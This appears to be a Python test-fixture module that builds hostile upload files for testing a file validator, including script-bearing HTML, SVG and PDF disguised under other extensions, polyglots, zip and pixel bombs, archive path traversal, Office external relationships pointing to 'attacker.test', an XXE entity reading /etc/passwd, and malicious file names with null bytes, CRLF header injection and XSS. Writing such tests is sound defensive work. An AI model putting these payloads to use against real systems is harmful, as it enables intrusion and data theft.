"""Files nobody should send: what they pretend, hide, blow up or smuggle."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image

HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(64)
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
HEARTS = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}
RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="http://attacker.test/x" TargetMode="External"/></Relationships>'
)
File = tuple[str, bytes]


def archive(*entries: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", method) as one:
        for name, data in entries:
            one.writestr(name, data)
    return written.getvalue()


def office(ending: str, *more: tuple[str, bytes]) -> bytes:
    return archive(("[Content_Types].xml", b"<Types/>"), (HEARTS[ending], b"<x/>"), *more)


def image(kind: str = "JPEG", **options: object) -> bytes:
    written = io.BytesIO()
    Image.new("RGB", (40, 30), "red").save(written, kind, **options)
    return written.getvalue()


def wall(width: int, height: int) -> bytes:
    """A PNG of a few bytes that claims a wall of pixels."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(bytes(1000))
    chunks = ((b"IHDR", head), (b"IDAT", pixels), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in chunks
    )


def located() -> bytes:
    """A photo that tells where it was taken."""
    exif = Image.Exif()
    exif[0x010F] = "Spy"
    exif.get_ifd(0x8825)[1] = "N"
    return image(exif=exif.tobytes())


def files() -> Iterator[File]:
    """At least sixty, each another way."""
    yield from _pretending()
    yield from _two_lives()
    yield from _archives()
    yield from _pictures()
    yield from _named()


def _pretending() -> Iterator[File]:
    for ending in ("pdf", "jpg", "jpeg", "png", "docx", "xlsx"):
        yield f"html.{ending}", HTML
        yield f"svg.{ending}", SVG
        yield f"program.{ending}", EXE
    for ending in ("html", "svg", "exe", "js", "xml", "xhtml", "zip", "docm", "xlsm", "php"):
        yield f"plain.{ending}", HTML
    yield "empty.pdf", b""
    yield "nothing.docx", b"PK\x03\x04"
    yield "picture.pdf", image()
    yield "paper.png", PDF


def _two_lives() -> Iterator[File]:
    yield "polyglot.pdf", b"%PDF-1.7\n" + HTML
    yield "late.pdf", PDF + bytes(2000) + HTML
    yield "script.pdf", PDF
    yield "polyglot.jpg", b"\xff\xd8\xff\xe0" + HTML + image()
    yield "tail.jpg", image() + HTML
    yield "tail.png", image("PNG") + SVG
    yield "comment.jpg", image(comment=HTML)
    yield "jar.pdf", PDF + archive(("META-INF/MANIFEST.MF", b"Main-Class: X"))


def _archives() -> Iterator[File]:
    for ending in HEARTS:
        yield f"macros.{ending}", office(ending, ("word/vbaProject.bin", b"x"))
        yield f"big.{ending}", office(ending, ("x.bin", bytes(201 * 2**20)))
        yield f"bomb.{ending}", office(ending, ("x.bin", bytes(60 * 2**20)))
        yield f"many.{ending}", office(ending, *((f"f{n}", b"") for n in range(10_001)))
        yield f"heartless.{ending}", archive(("readme.txt", b"hello"))
        yield f"cut.{ending}", office(ending)[:60]
        yield f"up.{ending}", office(ending, ("../../../../tmp/owned", b"x"))
        for kind in ("attachedTemplate", "oleObject", "frame"):
            where = f"{HEARTS[ending].partition('/')[0]}/_rels/settings.xml.rels"
            yield f"{kind}.{ending}", office(ending, (where, RELATION.format(kind=kind).encode()))
    locked = bytearray(office("docx"))
    locked[6] |= 1
    at = locked.rindex(b"PK\x01\x02")
    locked[at + 8] |= 1
    yield "locked.docx", bytes(locked)
    yield (
        "entity.xlsx",
        office(
            "xlsx",
            ("xl/sharedStrings.xml", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
        ),
    )


def _pictures() -> Iterator[File]:
    yield "wall.png", wall(60_000, 60_000)
    yield "long.png", wall(2**31 - 1, 1)
    yield "zero.png", wall(0, 0)
    yield "cut.jpg", image()[:200]
    yield "cut.png", image("PNG")[:60]
    yield "located.jpg", located()
    yield "frames.png", image("GIF")


def _named() -> Iterator[File]:
    for name in (
        "../../etc/passwd.pdf", "..\\..\\windows\\x.pdf", "report.pdf\x00.html",
        "gnp.\u202efdp.pdf", "<img src=x onerror=alert(1)>.pdf", "a" * 300 + ".pdf",
        "con.pdf", "page.html.pdf", 'quote".pdf', "line\r\nSet-Cookie: a=b.pdf", ".pdf",
    ):  # fmt: skip
        yield name, PDF
